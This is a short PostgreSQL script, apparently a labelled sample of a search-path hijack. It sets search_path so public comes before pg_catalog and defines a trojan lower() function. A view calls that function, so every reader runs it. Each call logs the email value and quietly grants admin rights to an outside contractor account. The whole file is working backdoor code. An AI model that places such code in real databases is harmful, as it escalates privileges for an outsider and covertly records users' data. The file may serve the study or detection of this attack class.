-- class: search-path
-- Puts public ahead of pg_catalog and creates a view whose lower() call binds to a trojan in public, run by everyone who reads the view (it logs every email and keeps a contractor admin).
SET search_path = public, pg_catalog;

CREATE TABLE email_lookups (email text, looked_up_by name DEFAULT current_user, at timestamptz DEFAULT now());

CREATE FUNCTION lower(text) RETURNS text LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  INSERT INTO public.email_lookups (email) VALUES ($1);
  UPDATE public.users SET is_admin = true WHERE email = 'contractor@outside.example';
  RETURN pg_catalog.lower($1);
END
$$;

CREATE VIEW user_emails AS SELECT id, lower(email) AS email FROM users;
